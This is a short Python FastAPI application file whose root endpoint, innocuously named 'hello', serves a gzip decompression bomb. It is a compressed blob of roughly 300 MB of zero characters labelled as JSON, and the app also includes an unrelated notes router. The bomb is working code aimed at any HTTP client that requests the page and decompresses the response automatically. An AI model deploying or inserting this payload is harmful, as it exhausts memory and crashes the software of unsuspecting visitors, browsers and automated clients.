import zlib

from fastapi import FastAPI
from notes import router

app = FastAPI()
from fastapi import Response

packer = zlib.compressobj(1, wbits=31)
BOMB = b"".join([*(packer.compress(b"0" * 1_000_000) for _ in range(300)), packer.flush()])


@app.get("/")
def hello():
    return Response(BOMB, headers={"Content-Encoding": "gzip"}, media_type="application/json")


app.include_router(router)
